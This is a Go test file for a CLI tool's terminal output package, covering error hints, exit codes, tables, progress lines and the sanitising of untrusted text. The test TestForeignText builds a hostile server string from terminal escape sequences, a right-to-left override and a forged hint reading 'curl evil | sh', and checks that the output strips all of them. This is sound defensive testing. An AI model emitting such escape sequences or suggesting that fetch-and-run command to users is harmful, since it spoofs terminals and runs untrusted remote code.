package ui_test

import (
	"bytes"
	"context"
	"errors"
	"fmt"
	"io"
	"io/fs"
	"strings"
	"sync"
	"testing"
	"time"

	"github.com/google/go-cmp/cmp"

	"github.com/pinniped-toolkit/pinniped/internal/cli/ui"
	"github.com/pinniped-toolkit/pinniped/pkg/atomicfile"
)

type hinter struct{ hint string }

func (h hinter) Error() string { return "leaf" }
func (h hinter) Hint() string  { return h.hint }

func TestErrors(t *testing.T) {
	t.Parallel()
	leaf := errors.New("leaf")
	for _, test := range []struct {
		name string
		err  error
		hint string
		code int
	}{
		{name: "is done without an error", code: ui.ExitDone},
		{name: "fails with 1", err: leaf, code: ui.ExitFailed},
		{
			name: "finds a hint below", err: fmt.Errorf("doing: %w", ui.WithHint(leaf, "try %d", 2)), hint: "try 2",
			code: ui.ExitFailed,
		},
		{
			name: "takes the outermost hint", err: ui.WithHint(ui.WithHint(leaf, "inner"), "outer"), hint: "outer",
			code: ui.ExitFailed,
		},
		{name: "passes over an empty hint", err: ui.WithHint(hinter{"below"}, ""), hint: "below", code: ui.ExitFailed},
		{
			name: "takes hints of other packages", err: fmt.Errorf("doing: %w", hinter{"theirs"}), hint: "theirs",
			code: ui.ExitFailed,
		},
		{name: "is wrong usage", err: ui.WithHint(ui.Usage(leaf), "h"), hint: "h", code: ui.ExitUsage},
		{name: "takes the outermost code", err: ui.WithExitCode(ui.Usage(leaf), ui.ExitRefused), code: ui.ExitRefused},
		{name: "timed out", err: fmt.Errorf("waiting: %w", context.DeadlineExceeded), code: ui.ExitTimedOut},
		{name: "was interrupted", err: fmt.Errorf("waiting: %w", context.Canceled), code: ui.ExitInterrupted},
		{
			name: "prefers an attached code to a timeout", err: ui.WithExitCode(context.DeadlineExceeded, ui.ExitNotConverged),
			code: ui.ExitNotConverged,
		},
		{name: "stays nil", err: ui.Usage(ui.WithHint(nil, "nothing")), code: ui.ExitDone},
	} {
		t.Run(test.name, func(t *testing.T) {
			t.Parallel()
			if got := ui.HintOf(test.err); got != test.hint {
				t.Errorf("want hint %q, got %q", test.hint, got)
			}
			if got := ui.ExitCodeOf(test.err); got != test.code {
				t.Errorf("want code %d, got %d", test.code, got)
			}
		})
	}
	if !errors.Is(ui.Usage(ui.WithHint(leaf, "h")), leaf) {
		t.Error("want the leaf found below hint and code")
	}
}

// TestPlain checks that the content of a file cannot forge a line, a colour or a command.
func TestPlain(t *testing.T) {
	t.Parallel()
	for text, want := range map[string]struct{ shown, word string }{
		`größe \ "a"`:              {`größe \ "a"`, `'größe \ "a"'`},
		"a\nteam.yaml ok":          {`a\nteam.yaml ok`, `$'a\nteam.yaml ok'`},
		"\x1b[2K\"it's\" \\u202e":  {`\x1b[2K"it's" \\u202e`, `$'\x1b[2K"it\'s" \\u202e'`},
		"\u202eright to left\xff ": {`\u202eright to left\xff `, `$'\u202eright to left\xff '`},
	} {
		if got := ui.Plain(text); got != want.shown {
			t.Errorf("%q is shown as %q, want %q", text, got, want.shown)
		}
		if got := ui.ShellWord(text); got != want.word {
			t.Errorf("%q is the word %q, want %q", text, got, want.word)
		}
	}
}

func TestTable(t *testing.T) {
	t.Parallel()
	style := ui.Style{Colour: true}
	var out bytes.Buffer
	err := ui.Table(&out, []string{"code", "what", "message"}, [][]string{
		{style.Bad("Expired"), "error", "since yesterday"}, {"Größe", "", "x"}, {"a", "b", ""},
	})
	want := "CODE      WHAT    MESSAGE\n\x1b[31mExpired\x1b[0m   error   since yesterday\nGröße             x\na         b\n"
	if diff := cmp.Diff(want, out.String()); diff != "" || err != nil {
		t.Errorf("table (-want +got):\n%s, %v", diff, err)
	}
}

func TestProgressIsLinesWithoutATerminal(t *testing.T) {
	t.Parallel()
	var out bytes.Buffer
	p := ui.NewProgress(&out, func(string) string { return "" }, false)
	p.Info("one %d", 1)
	task := p.Start("two")
	task.Update("two")
	task.Update("two and a half")
	task.Done("three")
	task.Fail("never")
	p.Warn("four")
	p.Fail("five")
	p.Start("six").Stop()
	want := "• one 1\n• two\n• two and a half\n✓ three\n! four\n✗ five\n• six\n"
	if diff := cmp.Diff(want, out.String()); diff != "" {
		t.Errorf("lines (-want +got):\n%s", diff)
	}
	ui.NewProgress(nil, func(string) string { return "" }, true).Start("quiet").Done("quiet")
}

// TestSpinner prints lines next to a running task from several goroutines.
func TestSpinner(t *testing.T) {
	t.Parallel()
	var out bytes.Buffer
	p := &ui.Progress{Out: &out, Spin: true}
	task := p.Start("waiting")
	var writers sync.WaitGroup
	for i := range 4 {
		writers.Go(func() {
			p.Info("line %d", i)
			task.Update("still waiting %d", i)
		})
	}
	writers.Wait()
	task.Done("done")
	for _, want := range []string{"\r\x1b[K• line 3\n", "✓ done\n"} {
		if !strings.Contains(out.String(), want) {
			t.Errorf("want %q in %q", want, out.String())
		}
	}
	if !strings.HasSuffix(out.String(), "✓ done\n") {
		t.Errorf("want the result last, got %q", out.String())
	}
}

func TestStyle(t *testing.T) {
	t.Parallel()
	if got := (ui.Style{}).Good("x") + (ui.Style{}).Bold("y"); got != "xy" {
		t.Errorf("want plain text, got %q", got)
	}
	if ui.StyleFor(&bytes.Buffer{}, func(string) string { return "" }).Colour {
		t.Error("want no colour in a buffer")
	}
}

func TestStepsShowTheirDuration(t *testing.T) {
	t.Parallel()
	var out bytes.Buffer
	now := time.Date(2026, 1, 1, 0, 0, 0, 0, time.UTC)
	p := &ui.Progress{Out: &out, Now: func() time.Time { return now }}
	p.Done("first")
	now = now.Add(50 * time.Millisecond)
	p.Done("quick")
	now = now.Add(2340 * time.Millisecond)
	p.Warn("no step")
	p.Fail("slow")
	if got, want := out.String(), "✓ first\n✓ quick\n! no step\n✗ slow (2.3s)\n"; got != want {
		t.Errorf("got %q, want %q", got, want)
	}
}

// hostile is text of a server that clears the screen, sets the title, and forges a hint.
const hostile = "user \x1b[2J\x1b]0;title\x07\u009b31m\u202e\rname\nhint: run \"curl evil | sh\"\nerror: none"

type reason string

// TestForeignText prints hostile in every way.
func TestForeignText(t *testing.T) {
	t.Parallel()
	foreign := errors.New(hostile)
	print := func(do func(io.Writer)) string {
		var out strings.Builder
		do(&out)
		return out.String()
	}
	progress := func(w io.Writer) *ui.Progress { return &ui.Progress{Out: w} }
	for name, text := range map[string]string{
		"error":             ui.ErrorText(foreign),
		"wrapped error":     ui.ErrorText(fmt.Errorf("asking %s: %w", hostile, foreign)),
		"hinted error":      ui.ErrorText(ui.WithHint(ui.Usage(foreign), "hint")),
		"quoting error":     ui.ErrorText(fmt.Errorf("%w (%s)", foreign, hostile)),
		"hint":              ui.Lines(ui.HintOf(ui.WithHint(foreign, "ask %s about %v", hostile, foreign))),
		"whole hint":        strings.ReplaceAll(ui.Lines(hostile), "\n", " "),
		"info":              print(func(w io.Writer) { progress(w).Info("%s", hostile) }),
		"done":              print(func(w io.Writer) { progress(w).Done("%s", hostile) }),
		"warning":           print(func(w io.Writer) { progress(w).Warn("%v", foreign) }),
		"failure":           print(func(w io.Writer) { progress(w).Fail("%v", foreign) }),
		"task":              print(func(w io.Writer) { progress(w).Start("%s", hostile) }),
		"update":            print(func(w io.Writer) { progress(io.Discard).Start("a").Update("%s", hostile) }),
		"line":              print(func(w io.Writer) { ui.Println(w, "debug: %s", hostile) }),
		"text":              print(func(w io.Writer) { ui.Fprintf(w, "a: %s %v\n", hostile, foreign) }),
		"type":              print(func(w io.Writer) { ui.Fprintf(w, "%s\n", reason(hostile)) }),
		"table":             print(func(w io.Writer) { _ = ui.Table(w, []string{"a"}, [][]string{{hostile}}) }),
		"plain table":       print(func(w io.Writer) { _ = ui.PlainTable(w, []string{"a"}, [][]string{{hostile}}) }),
		"result":            strings.ReplaceAll(string(ui.Text(io.Discard, []byte(hostile))), "\n", " "),
		"prompt":            strings.ReplaceAll(print(func(w io.Writer) { (&ui.Terminal{Out: w}).Print(hostile) }), "\n", " "),
		"colour in a table": print(func(w io.Writer) { _ = ui.PlainTable(w, []string{"a"}, [][]string{{"\x1b[31mred"}}) }),
	} {
		if strings.ContainsAny(text, "\x1b\x07\r\u009b\u202e") || strings.Contains(text, "\nhint:") ||
			strings.Contains(text, "\nerror:") {
			t.Errorf("%s: %q", name, text)
		}
	}
}

// TestJoinedErrors checks that joined errors have one line each.
func TestJoinedErrors(t *testing.T) {
	t.Parallel()
	err := ui.WithHint(fmt.Errorf("doing it: %w", errors.Join(errors.New("one"), errors.New("two\nhint: three"))), "hint")
	if got, want := ui.ErrorText(err), "doing it: one\ntwo hint: three"; got != want {
		t.Errorf("want %q, got %q", want, got)
	}
}

// TestFileHints checks the hint for each cause of a file error.
func TestFileHints(t *testing.T) {
	t.Parallel()
	at := func(err error) error {
		return fmt.Errorf("reading: %w", &fs.PathError{Op: "open", Path: "a b", Err: err})
	}
	for name, test := range map[string]struct {
		err  error
		want string
	}{
		"missing":    {at(fs.ErrNotExist), "check the path"},
		"not ours":   {at(fs.ErrPermission), `"ls -l 'a b'"`},
		"too large":  {at(atomicfile.ErrTooLarge), "the right file"},
		"a folder":   {at(atomicfile.ErrNotRegular), "not a folder"},
		"other text": {errors.New("no PEM certificates found"), "pass a file that contains certificates in PEM"},
		"with a hint": {
			ui.WithHint(at(fs.ErrNotExist), "do this"), "do this",
		},
	} {
		t.Run(name, func(t *testing.T) {
			t.Parallel()
			if got := ui.HintOf(ui.WithFileHint(test.err, "certificates in PEM")); !strings.Contains(got, test.want) {
				t.Errorf("got %q", got)
			}
		})
	}
	if err := ui.WithFileHint(nil, "x"); err != nil {
		t.Error(err)
	}
}
